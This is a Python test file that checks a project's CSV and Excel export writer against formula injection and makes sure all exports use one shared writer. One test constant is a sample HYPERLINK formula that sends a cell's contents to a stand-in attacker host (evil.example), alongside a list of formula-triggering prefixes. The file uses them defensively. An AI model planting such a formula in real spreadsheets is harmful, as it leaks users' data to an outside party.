"""Exports cannot carry formulas (OWASP CSV injection): one shared writer, used by every export."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from wangge.core import exports
from wangge.core.exports import safe_cell, write_csv, write_xlsx

ROOT = Path(__file__).resolve().parents[2]  # the wangge package
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"点这里")'
LEADERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", " =1+1"]


def sheet_xml(content: bytes) -> str:
    """Every worksheet's XML: a formula would be an <f> element there."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", LEADERS + [ATTACK])
def test_text_that_would_be_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["占道经营", "WG20260101-00001", "a=b", "1-2", "", 42, -3, 0.5, None, True])
def test_everything_else_passes_unchanged(value):
    assert safe_cell(value) == value


def test_a_workbook_holds_such_text_as_text():
    content = write_xlsx(["标题", "数量"], [[ATTACK, -5], *[[t, 1] for t in LEADERS]], title="导出")
    assert "<f>" not in sheet_xml(content)
    ws = load_workbook(io.BytesIO(content)).active
    assert ws.title == "导出"
    assert (ws["A2"].value, ws["A2"].data_type) == ("'" + ATTACK, "s")
    assert ws["B2"].value == -5  # numbers stay numbers
    # (A workbook stores a carriage return as a line feed: XML normalises line ends.)
    assert [ws.cell(row=r, column=1).value for r in range(3, 3 + len(LEADERS))] == [
        "'" + t.replace("\r", "\n") for t in LEADERS]


def test_cells_written_any_other_way_are_neutralised_when_saved():
    wb = exports.new_workbook()
    wb.active["A1"] = "=1+1"  # openpyxl alone would store a formula
    wb.active.cell(row=2, column=1, value=ATTACK)
    ws = load_workbook(io.BytesIO(exports.workbook_bytes(wb))).active
    assert "<f>" not in sheet_xml(exports.workbook_bytes(wb))
    assert ws["A1"].value == "'=1+1" and ws["A2"].value == "'" + ATTACK


def test_control_characters_do_not_break_a_workbook():
    ws = load_workbook(io.BytesIO(write_xlsx(["x"], [["摊贩\x01占道\x0b"], ["\x02=1+1"]]))).active
    assert ws["A2"].value == "摊贩占道" and ws["A3"].value == "'=1+1"


def test_a_csv_holds_such_text_as_text():
    content = write_csv(["标题", "数量"], [[ATTACK, -5], ["-1+1", None], ["普通, 带逗号", 3]])
    assert content.startswith("\ufeff".encode())  # Excel reads the Chinese
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["标题", "数量"], ["'" + ATTACK, "-5"], ["'-1+1", ""], ["普通, 带逗号", "3"]]


# --- one writer -------------------------------------------------------------------------------


def _writers_in(path: Path) -> list[str]:
    """What in ``path`` makes a spreadsheet or a CSV itself (reading one is fine)."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.ImportFrom) and node.module in ("openpyxl", "csv"):
            found += [f"from {node.module} import {a.name}" for a in node.names
                      if a.name in ("Workbook", "writer", "DictWriter")]
        elif isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                isinstance(node.value, ast.Name) and node.value.id == "csv":
            found.append(f"csv.{node.attr}")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "cell" and \
                any(k.arg == "value" for k in node.keywords):
            found.append("ws.cell(value=…)")
    return found


def test_every_export_goes_through_the_shared_writer():
    offenders = []
    for path in sorted(ROOT.rglob("*.py")):
        rel = path.relative_to(ROOT.parent).as_posix()
        if "/tests/" in rel or "/migrations/" in rel or rel == "wangge/core/exports.py":
            continue
        offenders += [f"{rel}: {what}" for what in _writers_in(path)]
    assert offenders == [], "exports must use wangge.core.exports:\n" + "\n".join(offenders)


def test_the_check_would_see_a_writer_of_its_own(tmp_path):
    rogue = tmp_path / "rogue.py"
    rogue.write_text("import csv\nfrom openpyxl import Workbook\nw = csv.writer(None)\nws.cell(row=1, column=1, value=x)\n"
                     "r = csv.reader(None)\n")
    assert len(_writers_in(rogue)) == 3  # reading a CSV is not writing one
